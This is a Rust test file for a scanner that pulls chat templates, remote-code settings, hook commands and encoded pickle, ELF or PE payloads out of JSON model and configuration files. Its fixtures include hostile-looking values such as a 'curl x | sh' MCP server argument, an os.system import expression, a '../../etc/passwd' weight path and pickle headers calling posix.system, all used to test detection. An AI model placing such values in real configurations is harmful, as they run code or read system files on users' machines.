//! Documents and the facts that must come out of them.

use super::{Encoding, JsonFacts, Limit, Limits, PayloadFormat, strings_of_interest};
use proptest::prelude::*;

fn read(text: &str) -> JsonFacts {
    strings_of_interest(text.as_bytes(), &Limits::default())
}

#[test]
fn templates_in_every_place() {
    for (text, expected) in [
        (
            r#"{"chat_template": "{{ a }}"}"#,
            vec![("$.chat_template", None, "{{ a }}")],
        ),
        (
            r#"{"chat_template": [{"name": "default", "template": "A"}, {"template": "B", "name": "tool"}]}"#,
            vec![
                ("$.chat_template[0].template", Some("default"), "A"),
                ("$.chat_template[1].template", Some("tool"), "B"),
            ],
        ),
        (
            r#"{"chat_template": {"default": "A", "rag": "B"}}"#,
            vec![
                ("$.chat_template.default", Some("default"), "A"),
                ("$.chat_template.rag", Some("rag"), "B"),
            ],
        ),
        (
            r#"{"x": [{"chat_template": "A"}]}"#,
            vec![("$.x[0].chat_template", None, "A")],
        ),
        (
            r#"{"chat_template": ["A", "B"]}"#,
            vec![("$.chat_template", None, "A\nB")],
        ),
        (
            r#"{"default_chat_template": "A"}"#,
            vec![("$.default_chat_template", None, "A")],
        ),
        (
            r#"{"chat_template": "A", "chat_template": "B"}"#,
            vec![
                ("$.chat_template", None, "A"),
                ("$.chat_template", None, "B"),
            ],
        ),
        (
            r#"{"chat_template": [{"name": "cut", "template": "A""#,
            vec![("$.chat_template[0].template", Some("cut"), "A")],
        ),
        (r#"{"chat_template": null, "template": "no"}"#, vec![]),
    ] {
        let facts = read(text);
        let found: Vec<_> = facts
            .templates
            .iter()
            .map(|one| (one.path.as_str(), one.name.as_deref(), one.text.as_str()))
            .collect();
        assert_eq!(found, expected, "{text}");
    }
    assert_eq!(
        read(r#"{"chat_template": "\u007b\u007b \"a\"\n\ud83d\ude00\ud83d }}"}"#).templates[0].text,
        "{{ \"a\"\n😀\u{fffd} }}"
    );
}

#[test]
fn code_and_commands_are_named() {
    for (text, key, path, value) in [
        (
            r#"{"auto_map": {"AutoTokenizer": ["tok.Evil", null]}}"#,
            "auto_map",
            "$.auto_map.AutoTokenizer[0]",
            "tok.Evil",
        ),
        (
            r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl x | sh"]}}}"#,
            "mcpServers",
            "$.mcpServers.x.args[1]",
            "curl x | sh",
        ),
        (
            r#"{"tasks": [{"command": "echo", "runOptions": {"runOn": "folderOpen"}}]}"#,
            "runOn",
            "$.tasks[0].runOptions.runOn",
            "folderOpen",
        ),
        (
            r#"{"trust_remote_code": true}"#,
            "trust_remote_code",
            "$.trust_remote_code",
            "true",
        ),
        (
            r#"{"layers": [{"class_name": "Lambda"}]}"#,
            "class_name",
            "$.layers[0].class_name",
            "Lambda",
        ),
        (
            r#"{"_target_": "os.system"}"#,
            "_target_",
            "$._target_",
            "os.system",
        ),
        (
            r#"{"_class_name": ["pipeline", "Evil"]}"#,
            "_class_name",
            "$._class_name[0]",
            "pipeline",
        ),
        (
            r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#,
            "auto_mapping",
            "$.auto_mapping.parent_library",
            "os",
        ),
        (
            r#"{"hooks": {"PreToolUse": [{"command": "x"}]}}"#,
            "hooks",
            "$.hooks.PreToolUse[0].command",
            "x",
        ),
        (
            r#"{"weight_map": {"w": "../../etc/passwd"}}"#,
            "weight_map",
            "$.weight_map.w",
            "../../etc/passwd",
        ),
    ] {
        let facts = read(text);
        let found = facts
            .named_code
            .iter()
            .any(|one| one.key == key && one.path == path && one.value == value);
        assert!(found, "{text}: {:?}", facts.named_code);
    }
    assert_eq!(
        read(r#"{"weight_map": {"w": "model-1.safetensors"}, "a": {"b": 1}}"#).named_code,
        []
    );
    let facts = read(r#"{"unet": ["unet_evil", "Evil"], "_class_name": "P"}"#);
    assert_eq!(
        facts.named_code.last().map(|one| one.path.as_str()),
        Some("$.unet[1]")
    );
    assert_eq!(
        read(r#"[{"type": "evil_module.Evil"}]"#).named_code[0].key,
        "type"
    );
    assert_eq!(
        read(r#"{"vocab": {"command": 1, "args": 2}, "type": "shell", "auto_map": null}"#)
            .named_code,
        []
    );
    let facts = read(r#"{"pad_token_id": "__import__('os').system('x')"}"#);
    assert_eq!(facts.expressions[0].path, "$.pad_token_id");
}

#[test]
fn encoded_formats_are_recognised() {
    use PayloadFormat::*;
    for (text, encoding, format) in [
        (
            "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
            Encoding::Base64,
            Pickle,
        ),
        ("gANjcG9zaXgKc3lzdGVtCnEA", Encoding::Base64, Pickle),
        ("8004952300000000000000", Encoding::Hexadecimal, Pickle),
        ("UEsDBBQAAAAIAAAAAAAA", Encoding::Base64, Zip),
        (
            "data:application/zip;base64,UEsDBBQAAAAIAAAAAAAA",
            Encoding::Base64,
            Zip,
        ),
        ("H4sIAAAAAAAAA0vKLEgFAI4A", Encoding::Base64, Gzip),
        ("f0VMRgIBAQAAAAAAAAAA", Encoding::Base64, Elf),
        ("7f454c460201010000000000", Encoding::Hexadecimal, Elf),
        ("TVqQAAMAAAAEAAAA", Encoding::Base64, Pe),
        ("4wEAAAAAAAAAAAAAAAEA", Encoding::Base64, Marshal),
        ("4wEAAAAA\nAAAAAAAAAAEA", Encoding::Base64, Marshal),
        ("\u{80}\u{4}\u{95}\u{0}", Encoding::Latin1, Pickle),
    ] {
        let found = super::payload::recognise(text);
        assert_eq!(found, Some((encoding, format)), "{text}");
    }
    for text in [
        "",
        "short",
        "internationalization",
        "deadbeefdeadbeefdeadbeef",
        "gASes and other words",
        "PKfoo",
    ] {
        assert_eq!(super::payload::recognise(text), None, "{text}");
    }
}

#[test]
fn lenient_where_readers_are() {
    for text in [
        r#"{"a": NaN, "b": -Infinity, "c": 1e5, "d": -0.5}"#,
        "\u{feff}{}",
        "// c\n{\"a\": [1, 2,], /* d */ \"b\": {},}",
        "\"text\"",
        "  [ ]  ",
        "null",
    ] {
        assert_eq!(read(text).error, None, "{text}");
        assert_eq!(read(text).trailing_offset, None, "{text}");
    }
    assert_eq!(read("{} x").trailing_offset, Some(3));
    assert_eq!(
        read(r#"{"a": {"b": 1, "b": 2}}"#).duplicate_keys[0].path,
        "$.a.b"
    );
    for text in [
        "",
        "{",
        "[1",
        "{\"a\" 1}",
        "{1: 2}",
        "[1 2]",
        "[}",
        "{]",
        "\"x",
        "nope",
        "{\"a\":}",
        "[1]]",
    ] {
        let facts = read(text);
        assert!(
            facts.error.is_some() || facts.trailing_offset.is_some(),
            "{text}"
        );
    }
    let facts = read(r#"{"a": "x", "b": ["y", {}]}"#);
    assert_eq!(
        (facts.string_count, facts.object_count, facts.depth),
        (2, 2, 3)
    );
}

#[test]
fn hostile_documents_end_soon() {
    let deep = "[".repeat(1_000_000);
    assert_eq!(read(&deep).limits_reached, [Limit::Depth]);
    let objects = "{\"a\":".repeat(1_000_000);
    assert_eq!(read(&objects).limits_reached, [Limit::Depth]);
    let many = format!("[{}]", "{\"command\":\"x\"},".repeat(50_000));
    let facts = read(&many);
    assert_eq!(facts.named_code.len(), Limits::default().facts);
    assert_eq!(facts.limits_reached, [Limit::Facts]);
    let vocabulary: Vec<String> = (0..100_000).map(|id| format!("\"w{id}\": {id}")).collect();
    let facts = read(&format!(
        "{{\"model\": {{\"vocab\": {{{}}}}}}}",
        vocabulary.join(",")
    ));
    assert_eq!((facts.error, facts.duplicate_keys.len()), (None, 0));
    let small = Limits {
        template_bytes: 3,
        ..Limits::default()
    };
    let facts = strings_of_interest(br#"{"chat_template": "abcdef"}"#, &small);
    assert_eq!(facts.templates[0].text, "abc");
    assert_eq!(facts.limits_reached, [Limit::TemplateBytes]);
}

proptest! {
    #[test]
    fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let _ = strings_of_interest(&bytes, &Limits::default());
    }

    #[test]
    fn any_mixture_is_read(pieces in prop::collection::vec(prop::sample::select(vec!["{", "}", "[", "]", ":", ",", "\"a\"", "\"chat_template\"", "\"name\"", "\"template\"", "1", "null", "\\", "\"", "/*", "//", "\n"]), 0..40)) {
        let _ = read(&pieces.concat());
    }
}
